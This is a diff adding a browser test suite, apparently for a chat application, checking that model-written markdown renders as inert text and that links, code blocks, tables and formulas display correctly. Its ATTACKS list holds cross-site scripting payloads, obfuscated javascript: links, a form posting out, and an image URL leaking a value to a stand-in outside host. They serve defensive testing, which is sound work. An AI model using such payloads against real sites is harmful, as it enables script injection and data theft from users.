@@ -1,0 +1,123 @@
+"""What a model writes is text: it is laid out, and never becomes script, style or a request."""
+
+from __future__ import annotations
+
+import pytest
+from playwright.sync_api import expect
+
+from tests.browser.conftest import Visit
+from tests.browser.steps import ask, last_text, wait_until_idle
+from tests.upstream.server import ScriptedServer
+from tests.world import World
+
+ATTACKS = [
+    "<img src=x onerror=\"window.hit='img'\">",
+    "<script>window.hit='script'</script>",
+    "<svg onload=\"window.hit='svg'\"></svg>",
+    "<iframe srcdoc=\"<script>parent.hit='frame'</script>\"></iframe>",
+    "[click](javascript:window.hit='link')",
+    "[click](JaVaScRiPt&colon;window.hit='entity')",
+    "[click](data:text/html,<script>window.hit='data'</script>)",
+    "<a href=\"javascript:window.hit='a'\">click</a>",
+    "![x](https://outside.example/leak.png?secret=1)",
+    "![x](javascript:window.hit='image')",
+    "<style>body{display:none}</style>",
+    '<form action="https://outside.example/"><input name=q></form>',
+    "[a]: javascript:window.hit='ref'\n\n[a]",
+    "$\\href{javascript:window.hit='math'}{x}$",
+    "`<img src=x onerror=window.hit=1>`",
+    '```html"><img src=x onerror=window.hit=1>\ncode\n```',
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
+    "<https://outside.example/\"onmouseover=window.hit='auto'>",
+]
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_markup_of_a_model_is_inert(
+    world: World, model: ScriptedServer, visit: Visit, attack: str
+) -> None:
+    model.expect(say=(*attack.partition("="), "\n\nThe end."))
+    page = visit(world.acme, "alice")
+    ask(page, "Say it")
+    expect(last_text(page)).to_contain_text("The end.")
+    wait_until_idle(page)
+    for link in page.locator(".prose a").all():
+        link.hover()
+    bad = "script, img, iframe, style, form, input, svg, object, [onerror], [onload], [style]"
+    assert last_text(page).locator(bad).count() == 0
+    hrefs = page.eval_on_selector_all(".prose a", "links => links.map(link => link.protocol)")
+    assert set(hrefs) <= {"https:"}
+    assert page.evaluate("window.hit") is None
+
+
+def test_links_open_apart_and_name_no_opener(
+    world: World, model: ScriptedServer, visit: Visit
+) -> None:
+    model.expect(say=("See [the manual](https://example.com/manual).",))
+    page = visit(world.acme, "alice")
+    ask(page, "Where?")
+    link = page.get_by_role("link", name="the manual")
+    expect(link).to_have_attribute("target", "_blank")
+    expect(link).to_have_attribute("rel", "noopener noreferrer")
+
+
+def test_code_has_its_language_colours_and_a_copy_button(
+    world: World, model: ScriptedServer, visit: Visit
+) -> None:
+    model.expect(
+        say=(
+            "```sql\nSELECT",
+            " 1;\n```\n",
+        ),
+        pace=0.05,
+    )
+    page = visit(world.acme, "alice", permissions=["clipboard-read", "clipboard-write"])
+    ask(page, "Code")
+    block = page.locator(".code-block")
+    expect(block.locator(".code-head")).to_contain_text("sql")
+    expect(block.locator(".hljs-keyword")).to_have_text("SELECT")
+    block.get_by_role("button", name="Copy").click()
+    expect(block.get_by_role("button", name="Copied")).to_be_visible()
+    assert page.evaluate("navigator.clipboard.readText()") == "SELECT 1;"
+
+
+def test_tables_lists_and_formulas_are_laid_out(
+    world: World, model: ScriptedServer, visit: Visit
+) -> None:
+    text = "| a | b |\n|--|--|\n| 1 | 2 |\n\n- one\n- two\n\n$$\nx^2\n$$\n\nIt costs $5 and $6.\n"
+    model.expect(say=tuple(text[at : at + 5] for at in range(0, len(text), 5)), pace=0.01)
+    page = visit(world.acme, "alice")
+    ask(page, "Show all")
+    wait_until_idle(page)
+    expect(last_text(page).locator("td")).to_have_text(["1", "2"])
+    expect(last_text(page).locator("li")).to_have_text(["one", "two"])
+    expect(last_text(page).locator(".katex-display")).to_have_count(1)
+    expect(last_text(page).locator(".block").last).to_have_text("It costs $5 and $6.")
+
+
+def test_growing_and_finished_markdown_look_alike(
+    world: World, model: ScriptedServer, visit: Visit
+) -> None:
+    text = (
+        "# Title\n\nSome *text* with `code`.\n\n## Part\n\n1. one\n\n   more\n\n2. two\n\n"
+        "> quoted\n\n```python\nx = 1\n\ny = 2\n```\n\nA [link][1].\n\n[1]: https://example.com/\n"
+    )
+    model.expect(say=tuple(text[at : at + 3] for at in range(0, len(text), 3)), pace=0.005)
+    page = visit(world.acme, "alice")
+    ask(page, "Write")
+    wait_until_idle(page)
+    expect(page.locator(".hljs-number")).to_have_count(2)
+    grown = last_text(page).inner_html()
+    page.reload()
+    expect(page.locator(".hljs-number")).to_have_count(2)
+    assert last_text(page).inner_html() == grown
+
+
+def test_a_message_of_a_person_stays_as_typed(
+    world: World, model: ScriptedServer, visit: Visit
+) -> None:
+    model.expect(say=("Fine.",))
+    page = visit(world.acme, "alice")
+    ask(page, "<b>bold?</b> **no** &amp;")
+    expect(page.locator(".own-text")).to_have_text("<b>bold?</b> **no** &amp;")
+    expect(last_text(page)).to_have_text("Fine.")
